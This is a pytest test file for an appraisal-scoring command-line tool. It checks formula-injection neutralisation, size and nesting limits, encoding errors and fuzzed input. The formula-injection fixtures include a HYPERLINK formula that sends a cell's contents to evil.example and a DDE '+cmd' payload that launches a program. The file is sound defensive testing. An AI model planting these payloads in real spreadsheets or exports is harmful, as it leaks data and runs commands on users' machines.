"""`score` with hostile and careless input: formulas stay text, limits say which one was hit,
every bad file gets one line and a non-zero exit, and no output file is written for it."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator import load_catalog
from generator.__main__ import main
from generator.scoring import batch, bounds

HEADER = (
    "position,employee,rater,period,kpi1,kpi1_actual,kpi2,kpi2_actual,teamwork,accuracy,efficient"
)
GOOD = "sales-manager,张三,李四,2026Q4,,130,,较满意,4,5,3"
GOOD_JSON = {
    "position": "sales-manager",
    "employee": "张三",
    "kpis": [{"points": 5}, {"points": 5}],
    "ratings": {"teamwork": 5, "accuracy": 5, "efficient": 5},
}


def run(tmp_path, name: str, content: str | bytes, capsys) -> tuple[int, list[str], str]:
    """Score `content` saved as `name` into scored.csv: (exit code, stderr lines, stdout)."""
    source = tmp_path / name
    if isinstance(content, bytes):
        source.write_bytes(content)
    else:
        source.write_text(content, encoding="utf-8")
    code = main(["score", str(source), "--catalog", "catalog", "-o", str(tmp_path / "scored.csv")])
    captured = capsys.readouterr()
    return code, captured.err.splitlines(), captured.out


def output(tmp_path) -> list[list[str]]:
    return list(csv.reader(io.StringIO((tmp_path / "scored.csv").read_text("utf-8"))))


# ------------------------------------------------------------------------- formula injection

FORMULAS = [
    (
        '=HYPERLINK("http://evil.example/?"&A1,"详情")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"详情")',
    ),
    ("+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("-2+3", "'-2+3"),
    ("＝1+1", "'＝1+1"),  # the full-width sign a Chinese spreadsheet also reads as a formula
    ("\t=1+1", "'=1+1"),  # names are trimmed; what is left is still neutralised
    ("\r@SUM(1)", "'@SUM(1)"),
    ("\tcmd", "cmd"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def no_formula_anywhere(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START), row


@pytest.mark.parametrize("payload, shown", FORMULAS)
def test_csv_names_that_look_like_formulas_are_written_as_text(
    mini, tmp_path, capsys, payload, shown
):
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(HEADER.split(","))
    writer.writerow(["sales-manager", payload, payload, payload, "", "130", "", "较满意", 4, 5, 3])
    code, err, _ = run(tmp_path, "appraisals.csv", source.getvalue(), capsys)
    assert code == 0, err
    rows = output(tmp_path)
    assert rows[1][:6] == ["2", "sales-manager", "销售部经理", shown, shown, shown]
    no_formula_anywhere(rows)


@pytest.mark.parametrize("payload, shown", FORMULAS)
def test_json_names_that_look_like_formulas_are_written_as_text(
    mini, tmp_path, capsys, payload, shown
):
    appraisal = {**GOOD_JSON, "employee": payload, "rater": payload, "period": payload}
    code, err, _ = run(tmp_path, "appraisals.json", json.dumps([appraisal]), capsys)
    assert code == 0, err
    rows = output(tmp_path)
    assert rows[1][:6] == ["1", "sales-manager", "销售部经理", shown, shown, shown]
    no_formula_anywhere(rows)


def test_formulas_in_a_position_id_and_title_are_written_as_text(mini, tmp_path, capsys):
    mini.replace(
        "departments/sales/sales-manager.yaml", "title: 销售部经理", 'title: "@SUM(A1:A9)"'
    )
    content = f"{HEADER}\n{GOOD}\n=1+1,张三,李四,2026Q4,4,,4,,4,4,4\n"
    code, err, _ = run(tmp_path, "appraisals.csv", content, capsys)
    assert code == 1
    rows = output(tmp_path)
    assert rows[1][:3] == ["2", "sales-manager", "'@SUM(A1:A9)"]
    assert rows[2][:3] == ["3", "'=1+1", ""]
    assert rows[2][-1] == "unknown position '=1+1'"
    no_formula_anywhere(rows)
    assert err[-2:] == [
        f"{tmp_path / 'appraisals.csv'}: row 3: unknown position '=1+1'",
        "scored 1 of 2 appraisal(s)",
    ]


# ------------------------------------------------------------- files that cannot be scored


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


REFUSED = [
    pytest.param(
        "appraisals.csv",
        "position,employee\nsales-manager," + "x" * 200_000 + "\n",
        "row 2: a cell longer than the limit of 10,000 characters; nothing was scored",
        id="csv-cell-200000-characters",
    ),
    pytest.param(
        "appraisals.csv",
        "position,employee\nsales-manager," + "x" * 20_000 + "\n",
        "row 2: employee: a cell longer than the limit of 10,000 characters; nothing was scored",
        id="csv-cell-20000-characters",
    ),
    pytest.param(
        "appraisals.csv",
        "position,kpi1\nsales-manager," + "9" * 400 + "\n",
        "row 2: kpi1: a number longer than the limit of 32 characters; nothing was scored",
        id="csv-number-400-digits",
    ),
    pytest.param(
        "appraisals.csv",
        "position,teamwork\nsales-manager,-" + "1" * 40 + ".5%\n",
        "row 2: teamwork: a number longer than the limit of 32 characters; nothing was scored",
        id="csv-rating-41-digits",
    ),
    pytest.param(
        "appraisals.json",
        '[{"position": "sales-manager", "kpis": [{"points": ' + "9" * 400 + "}]}]",
        "row 1: a number longer than the limit of 32 characters; nothing was scored",
        id="json-number-400-digits",
    ),
    pytest.param(
        "appraisals.json",
        nested(100_000),
        "row 1: brackets nested deeper than the limit of 20 levels; nothing was scored",
        id="json-100000-nested-brackets",
    ),
    pytest.param(
        "appraisals.json",
        json.dumps([GOOD_JSON, {"position": "x", "kpis": nested(30)}])
        .replace('"[[', "[[")
        .replace(']]"', "]]"),
        "row 2: brackets nested deeper than the limit of 20 levels; nothing was scored",
        id="json-nested-in-the-second-appraisal",
    ),
    pytest.param(
        "appraisals.json",
        json.dumps([{**GOOD_JSON, "employee": "张" * 10_001}]),
        "row 1: a text longer than the limit of 10,000 characters; nothing was scored",
        id="json-text-10001-characters",
    ),
    pytest.param(
        "appraisals.csv",
        b"position,employee\nsales-manager,\xff\xfe\n",
        "cannot read appraisals: not UTF-8 text (byte 0xff on line 2); save the file "
        "as UTF-8 (in Excel: CSV UTF-8)",
        id="csv-not-utf8",
    ),
    pytest.param(
        "appraisals.csv",
        "position,kpi1,kpi1\nsales-manager,4,5\n",
        "row 1: column 'kpi1' appears twice (columns 2 and 3); nothing was scored",
        id="csv-column-twice",
    ),
    pytest.param(
        "appraisals.csv",
        "employee,kpi1\n张三,4\n",
        "row 1: no 'position' column; the first row names the columns: position, "
        "employee, rater, period, kpi1, kpi1_actual, …, then competency ids; nothing "
        "was scored",
        id="csv-without-position-column",
    ),
    pytest.param(
        "appraisals.csv",
        'position,employee\nsales-manager,"张三\n',
        "row 2: cannot read the CSV: unexpected end of data; nothing was scored",
        id="csv-unclosed-quote",
    ),
    pytest.param(
        "appraisals.json",
        "{not json",
        "cannot read appraisals: not valid JSON (line 1, column 2: Expecting property "
        "name enclosed in double quotes)",
        id="json-syntax",
    ),
]


@pytest.mark.parametrize("name, content, message", REFUSED)
def test_file_that_cannot_be_scored_gets_one_line_and_no_output(
    mini, tmp_path, capsys, name, content, message
):
    code, err, out = run(tmp_path, name, content, capsys)
    assert (code, err, out) == (1, [f"{tmp_path / name}: {message}"], "")
    assert not (tmp_path / "scored.csv").exists()


def test_refused_file_leaves_an_earlier_output_as_it_was(mini, tmp_path, capsys):
    (tmp_path / "scored.csv").write_text("earlier\n", encoding="utf-8")
    assert run(tmp_path, "appraisals.json", nested(50), capsys)[0] == 1
    assert (tmp_path / "scored.csv").read_text("utf-8") == "earlier\n"


def test_file_larger_than_the_limit_is_not_read(mini, tmp_path, capsys):
    source = tmp_path / "appraisals.csv"
    with source.open("wb") as handle:  # sparse: no 16 MiB written
        handle.truncate(bounds.MAX_FILE_BYTES + 1)
    assert main(["score", str(source), "--catalog", "catalog"]) == 1
    captured = capsys.readouterr()
    assert captured.err.splitlines() == [
        f"{source}: cannot read appraisals: the file has 16,777,217 bytes, more than the limit of 16,777,216 (16 MiB)"
    ]
    assert captured.out == ""


@pytest.mark.parametrize(
    "name, content, message",
    [
        pytest.param(
            "appraisals.csv",
            f"{HEADER}\n{GOOD}\n{GOOD}\n{GOOD}\n{GOOD}\n",
            "row 5: more than the limit of 3 appraisals in one file; split the file; "
            "nothing was scored",
            id="csv",
        ),
        pytest.param(
            "appraisals.json",
            json.dumps([GOOD_JSON] * 4),
            "row 4: more than the limit of 3 appraisals in one file; split the file; "
            "nothing was scored",
            id="json",
        ),
    ],
)
def test_more_rows_than_the_limit(mini, tmp_path, capsys, monkeypatch, name, content, message):
    monkeypatch.setattr(bounds, "MAX_ROWS", 3)
    code, err, _ = run(tmp_path, name, content, capsys)
    assert (code, err) == (1, [f"{tmp_path / name}: {message}"])
    assert not (tmp_path / "scored.csv").exists()


@pytest.mark.parametrize(
    "name, content, message",
    [
        pytest.param(
            "appraisals.csv",
            "position,employee,rater,period,kpi1,kpi2\n",
            "row 1: 6 columns, more than the limit of 5; nothing was scored",
            id="csv-header",
        ),
        pytest.param(
            "appraisals.csv",
            "position,kpi1\nsales-manager,1,2,3,4,5\n",
            "row 2: 6 columns, more than the limit of 5; nothing was scored",
            id="csv-row",
        ),
        pytest.param(
            "appraisals.json",
            json.dumps([{"position": "sales-manager", "ratings": {f"r{i}": 1 for i in range(6)}}]),
            "row 1: a list or object of more than the limit of 5 values; nothing was scored",
            id="json",
        ),
    ],
)
def test_more_columns_than_the_limit(mini, tmp_path, capsys, monkeypatch, name, content, message):
    monkeypatch.setattr(bounds, "MAX_COLUMNS", 5)
    code, err, _ = run(tmp_path, name, content, capsys)
    assert (code, err) == (1, [f"{tmp_path / name}: {message}"])


def test_missing_file_and_folder(mini, tmp_path, capsys):
    assert main(["score", str(tmp_path / "none.csv"), "--catalog", "catalog"]) == 1
    assert main(["score", str(tmp_path), "--catalog", "catalog"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{tmp_path / 'none.csv'}: cannot read appraisals: no such file",
        f"{tmp_path}: cannot read appraisals: a folder, not a file",
    ]


def test_output_that_cannot_be_written_is_one_line(mini, tmp_path, capsys):
    source = tmp_path / "appraisals.csv"
    source.write_text(f"{HEADER}\n{GOOD}\n", encoding="utf-8")
    (tmp_path / "out").mkdir()
    assert main(["score", str(source), "--catalog", "catalog", "-o", str(tmp_path / "out")]) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{tmp_path / 'out'}: cannot write the scored appraisals: Is a directory"
    ]
    assert list((tmp_path / "out").iterdir()) == []


# ------------------------------------------------------------ rows that cannot be scored


def test_json_values_of_the_wrong_kind_are_row_problems(mini, tmp_path, capsys):
    appraisals = [
        {"position": "sales-manager", "kpis": {"0": {"points": 4}}},
        {"position": "sales-manager", "kpis": 5},
        {"position": "sales-manager", "ratings": "x"},
        {"position": "sales-manager", "ratings": ["teamwork"]},
        {"position": "sales-manager", "employee": {"name": "张三"}, "period": 2026},
        {"position": ["sales-manager"]},
        {**GOOD_JSON, "kpis": [{"points": 4}, {"points": 4}, {"points": 4}]},
        {**GOOD_JSON, "kpis": [{"points": 4}, {"points": 4}, None, {}]},
        {**GOOD_JSON, "ratings": {"teamwrok": 4, "accuracy": 4, "efficient": 4}},
        {**GOOD_JSON, "kpis": [{"points": 1e308 * 10}, 7]},
        "sales-manager",
    ]
    code, err, _ = run(tmp_path, "appraisals.json", json.dumps(appraisals), capsys)
    source = tmp_path / "appraisals.json"
    assert code == 1
    assert err == [
        f"{source}: {line}"
        for line in [
            'row 1: kpis: expected a list such as [{"points": 4}], got an object',
            'row 2: kpis: expected a list such as [{"points": 4}], got a number',
            'row 3: ratings: expected an object such as {"teamwork": 4}, got text',
            'row 4: ratings: expected an object such as {"teamwork": 4}, got a list',
            "row 5: employee: expected text, got an object",
            "row 6: position: expected text, got a list",
            "row 7: kpis: 3 entries, but 销售部经理 has 2 KPIs",
            "row 9: ratings: unknown competency 'teamwrok' (did you mean 'teamwork'?)",
            "row 10: kpi1 (部门业绩): is not a number; kpi2 (客户满意度): cannot be read",
            "row 11: an appraisal must be a JSON object",
        ]
    ] + ["scored 1 of 11 appraisal(s)"]
    rows = output(tmp_path)
    assert rows[5][:6] == ["5", "sales-manager", "销售部经理", "", "", "2026"]  # 2026 as text
    assert rows[8][:3] == ["8", "sales-manager", "销售部经理"] and rows[8][-1] == ""


def test_csv_kpi_columns_beyond_the_position_are_reported_not_allocated(mini, tmp_path, capsys):
    content = (
        "position,kpi0,kpi1,kpi2,kpi3,kpi100000000,kpi999999999,kpi1_points,kpi²\n"
        "sales-manager,4,4,4,4,4,4,4,4\n"
        "sales-manager,,4,4,,,,,\n"
    )
    (tmp_path / "appraisals.csv").write_text(content, encoding="utf-8")
    catalog = load_catalog("catalog")
    tracemalloc.start()
    try:
        batch.write_csv(
            batch.score_appraisals(
                catalog, batch.read_appraisals(tmp_path / "appraisals.csv", catalog)
            )
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000  # was a list of 999,999,999 entries: 5.4 GB
    code, err, _ = run(tmp_path, "appraisals.csv", content, capsys)
    assert code == 1
    assert err == [
        f"{tmp_path / 'appraisals.csv'}: row 2: unknown column 'kpi0' (KPIs are numbered from kpi1); unknown column 'kpi1_points'; unknown column 'kpi²'; kpi3: no such KPI, 销售部经理 has 2 (kpi1 to kpi2); kpi100000000: no such KPI, 销售部经理 has 2 (kpi1 to kpi2); kpi999999999: no such KPI, 销售部经理 has 2 (kpi1 to kpi2)",
        "scored 1 of 2 appraisal(s)",
    ]
    assert output(tmp_path)[2][:2] == ["3", "sales-manager"]


def test_empty_rows_are_skipped_and_rows_keep_their_spreadsheet_numbers(mini, tmp_path, capsys):
    content = f"{HEADER}\n{GOOD}\n,,,,,,,,,,\n\nnobody,,,,,,,,,,\n"
    code, err, _ = run(tmp_path, "appraisals.csv", content, capsys)
    assert code == 1
    assert err == [
        f"{tmp_path / 'appraisals.csv'}: row 5: unknown position 'nobody'",
        "scored 1 of 2 appraisal(s)",
    ]


def test_long_or_multi_line_values_are_shortened_to_one_line_in_messages(mini, tmp_path, capsys):
    appraisal = {"position": "no-such\nposition " + "x" * 100}
    code, err, _ = run(tmp_path, "appraisals.json", json.dumps([appraisal]), capsys)
    assert code == 1
    assert err == [
        f"{tmp_path / 'appraisals.json'}: row 1: unknown position 'no-such position {'x' * 43}…'",
        "scored 0 of 1 appraisal(s)",
    ]


# --------------------------------------------------------------- anything at all, no traceback

JSON_VALUES = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(10**40), 10**40),
        st.floats(),
        st.text(max_size=8),
        st.sampled_from(["sales-manager", "teamwork", "较满意", "=1"]),
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(
            st.sampled_from(
                [
                    "position",
                    "employee",
                    "kpis",
                    "ratings",
                    "points",
                    "actual",
                    "level",
                    "teamwork",
                    "accuracy",
                    "0",
                    "x",
                ]
            ),
            inner,
            max_size=5,
        ),
    ),
    max_leaves=20,
)
CSV_TEXT = st.lists(
    st.sampled_from(
        list(',"\r\n \t=+-@%.0123456789')
        + [
            "position",
            "kpi1",
            "kpi2_actual",
            "kpi0",
            "teamwork",
            "sales-manager",
            "较满意",
            "\x00",
            "\ufeff",
            "ｅ",
        ]
    ),
    max_size=40,
).map("".join)
FAST = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def score_without_traceback(tmp_path, name: str, content: bytes, capsys) -> None:
    (tmp_path / name).write_bytes(content)
    code = main(["score", str(tmp_path / name), "--catalog", "catalog"])
    captured = capsys.readouterr()
    assert code in (0, 1)
    lines = captured.err.splitlines()
    assert lines and all(line.startswith((str(tmp_path / name), "scored ")) for line in lines)
    if captured.out:
        no_formula_anywhere(list(csv.reader(io.StringIO(captured.out))))


@FAST
@given(JSON_VALUES)
def test_any_json_document_is_scored_or_refused_in_one_line(mini, tmp_path, capsys, document):
    content = json.dumps(document, ensure_ascii=False).encode("utf-8")
    score_without_traceback(tmp_path, "appraisals.json", content, capsys)


@FAST
@given(CSV_TEXT)
def test_any_csv_text_is_scored_or_refused_in_one_line(mini, tmp_path, capsys, text):
    score_without_traceback(tmp_path, "appraisals.csv", text.encode("utf-8"), capsys)


@FAST
@given(st.binary(max_size=60))
def test_any_bytes_are_scored_or_refused_in_one_line(mini, tmp_path, capsys, content):
    score_without_traceback(tmp_path, "appraisals.json", content, capsys)


def test_endless_device_is_read_only_up_to_the_limit(mini, capsys):
    assert main(["score", "/dev/zero", "--catalog", "catalog"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "/dev/zero: cannot read appraisals: the file has more bytes than the limit of 16,777,216 (16 MiB)"
    ]
